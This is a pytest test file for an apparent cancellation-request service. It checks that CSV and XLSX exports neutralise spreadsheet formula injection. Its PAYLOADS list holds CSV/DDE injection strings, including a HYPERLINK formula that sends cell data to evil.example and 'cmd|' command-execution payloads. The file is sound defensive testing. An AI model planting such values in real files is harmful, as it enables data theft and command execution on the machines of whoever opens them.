"""A storefront-supplied `holder_name` (or any text someone typed: SKU, order number, tag) that a
spreadsheet would evaluate (`=HYPERLINK(…)`, `=cmd|…`, `+`, `-`, `@`, tab, CR) is exported as inert
text: a leading `'` in CSV and XLSX cells, XLSX cells written as strings (no formula, no link); JSON
keeps the value as it is."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from cancelflow.db import get_engine, transaction
from cancelflow.models import CancellationRequest, ExportFormat
from cancelflow.services import exports, tags
from cancelflow.services.queries import RequestFilters
from tests.factories import (
    bank_transfer_request_over_api,
    load,
    order_payload,
    token_headers,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def storefront(database: str) -> dict[str, str]:
    load({"orders": [order_payload(channel=1)]})  # channel 1 exists before its token
    return token_headers("storefront", channel_id=1)


@pytest.fixture(scope="module")
def planted(client: TestClient, storefront: dict[str, str]) -> list[int]:
    """One request per payload, created by a storefront token, tagged with the payload too."""
    ids = [bank_transfer_request_over_api(client, storefront, holder_name=payload) for payload in PAYLOADS]
    with transaction() as session:
        tags.add(session, ids[0], [PAYLOADS[1]])
        # The API strips surrounding whitespace; other writers (imports, the CLI) may not: exact values.
        for request_id, payload in zip(ids, PAYLOADS, strict=True):
            session.execute(
                update(CancellationRequest)
                .where(CancellationRequest.id == request_id)
                .values(holder_name=payload)
            )
    return ids


def query(ids: list[int], fmt: str) -> str:
    return f"/api/v1/cancellation_requests/detailed/?export_format={fmt}&id__in={','.join(map(str, ids))}"


def test_csv_cells_are_inert(client: TestClient, storefront: dict[str, str], planted: list[int]) -> None:
    response = client.get(query(planted, "csv"), headers=storefront)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert sorted(r["holder_name"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert "'" + PAYLOADS[1] in [r["tags"] for r in rows]
    for row in rows:
        for value in row.values():
            assert not value.startswith(exports.FORMULA_START), row


def test_xlsx_cells_are_text_not_formulas(
    client: TestClient, storefront: dict[str, str], planted: list[int]
) -> None:
    response = client.get(query(planted, "xlsx"), headers=storefront)
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    assert "hyperlink" not in sheet_xml.lower().replace("=hyperlink(", "")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    holder = header.index("holder_name")
    cells = [row[holder] for row in sheet.iter_rows(min_row=2)]
    # xlsxwriter stores a CR as the OOXML escape `_x000D_`, which openpyxl leaves as it is.
    assert sorted(c.value for c in cells) == sorted("'" + p.replace("\r", "_x000D_") for p in PAYLOADS)
    assert {c.data_type for c in cells} == {"s"}


def test_export_jobs_write_the_same_inert_files(planted: list[int], tmp_path: Any) -> None:
    filters = RequestFilters.parse({"id__in": ",".join(map(str, planted))})
    for fmt in (ExportFormat.csv, ExportFormat.xlsx):
        path = tmp_path / f"job.{fmt.value}"
        assert exports.write_file(get_engine(), fmt, path, filters) == len(PAYLOADS)
        if fmt == ExportFormat.csv:
            with path.open(newline="") as file:
                rows = list(csv.DictReader(file))
            assert sorted(r["holder_name"] for r in rows) == sorted("'" + p for p in PAYLOADS)
        else:
            sheet = load_workbook(path).active
            assert sheet is not None
            values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
            assert not any(isinstance(v, str) and v.startswith(exports.FORMULA_START) for v in values)


def test_json_keeps_values_as_sent(
    client: TestClient, storefront: dict[str, str], planted: list[int]
) -> None:
    rows = json.loads(client.get(query(planted, "json"), headers=storefront).content)
    assert sorted(r["holder_name"] for r in rows) == sorted(PAYLOADS)
